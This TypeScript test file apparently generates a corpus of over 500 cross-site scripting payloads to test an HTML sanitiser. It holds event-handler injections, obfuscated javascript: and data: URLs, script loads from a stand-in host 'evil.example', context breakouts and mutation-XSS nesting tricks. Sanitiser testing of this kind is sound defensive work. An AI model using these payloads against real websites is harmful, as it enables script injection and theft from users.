import corpus from './dompurify-corpus.json' with { type: 'json' }

const js = 'alert(1)'

const events: [tag: string, handlers: string][] = [
  ['img src=x', 'onerror onload onfocus onmouseover'],
  ['svg', 'onload onbegin onfocusin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin onend onrepeat'],
  ['svg><set attributeName=href to=javascript:alert(1)', 'onbegin'],
  ['body', 'onload onpageshow onhashchange onresize'],
  ['video src=x', 'onerror oncanplay'],
  ['input autofocus', 'onfocus onblur'],
  ['button autofocus', 'onfocus onclick'],
  ['details open', 'ontoggle'],
  ['dialog open', 'onclose oncancel'],
  ['marquee', 'onstart onfinish onbounce'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['p tabindex=0 autofocus', 'onfocus onpointerover oncontentvisibilityautostatechange'],
  ['div style="animation:x 1s;position:fixed;inset:0"', 'onanimationstart onwheel onpointerenter'],
  ['a href=# autofocus', 'onfocus onclick'],
  ['x contenteditable autofocus', 'onfocus oninput'],
  ['table background=x', 'onload'],
  ['form', 'onsubmit onformdata'],
]

/** Ways to attach a handler to a tag: quotes, slashes, line ends, capitals, entities. */
const attachments: ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=${js}>`,
  (tag, handler) => `<${tag.toUpperCase()}\n${handler.toUpperCase()}\t=\n'${js}'//>`,
  (tag, handler) => `"><${tag}/${handler}="&#97;lert&lpar;1&rpar;"><!--`,
]

const addresses = [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  ` javascript:${js}`,
  `java\tscript:${js}`,
  `java\r\nscript:${js}`,
  `&#106;avascript:${js}`,
  `&#x6A;&#x61;vascript&colon;${js}`,
  `\u0001javascript:${js}`,
  `javascript:/*--></title></style></script>*/${js}//`,
  `vbscript:${js}`,
  `data:text/html,<script>${js}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
]

const holders: ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button form=x formaction="${address}">x</button>`,
  (address) => `<img src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"></use></svg>`,
  (address) => `<math><mi href="${address}">x</mi></math>`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<script src="${address}"></script>`,
]

/** Payloads that close the context they are written to: text, attributes, the page's data blocks, its title. */
const breakouts = [
  `</script><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `</noscript><img src=x onerror=${js}>`,
  `--><script>${js}</script>`,
  `<!--<script>${js}//-->`,
  `"-${js}-"`,
  `\\"-${js}//`,
  `" onmouseover="${js}`,
  `&lt;img src=x onerror=${js}&gt;`,
  `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  `<scr\u0000ipt>${js}</scr\u0000ipt>`,
  `＜img src=x onerror=${js}＞`,
  `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  `<a id=baseUrl href="javascript:${js}"></a><p id=hydration>{}</p><p id=root></p>`,
  `<plaintext><img src=x onerror=${js}>`,
]

/** Malformed HTML, which parsers repair in different ways. */
const malformed = [
  '</div></article></main></body></html><p>after',
  '<a href="/a">a<table><tr><td><a href="/b">b</a></table>c</a>',
  '<table>a<tr>b<td>c</tr><p>d</table>',
  '<pre>\n\na</pre><pre><b>\n\na</b></pre>',
  '<select><div><b>a</div><textarea></select>b</textarea>c',
  '<form><input name=childNodes><input name=nodeName><input name=attributes></form>a',
  '<noscript><b>a</noscript>b',
  '<svg><p>a</svg>b<math><mi><b>c</math>d',
  '<frameset><frame>',
  '<p title="</p><b>">a</p>',
  'a\0b\rc\r\nd&nbsp;&notit;&#0;&#x80;',
  `${'<div>'.repeat(1_000)}a`,
  `${'<b><x>'.repeat(600)}a${'</b>'.repeat(300)}b<i>c`,
  `<p>${Array.from({ length: 60 }, (_, index) => `<b title=${index}>`).join('')}${'<p>a'.repeat(60)}`,
]

/** At least 500 payloads that try to run script by a call of `alert` or a similar function. Some are test cases of a sanitiser. */
export const payloads: readonly string[] = [
  ...new Set([
    ...corpus.payloads,
    ...breakouts,
    ...malformed,
    ...events.flatMap(([tag, handlers]) =>
      handlers.split(' ').flatMap((handler) => attachments.map((hang) => hang(tag, handler))),
    ),
    ...addresses.flatMap((address) => holders.map((hold) => hold(address))),
  ]),
]
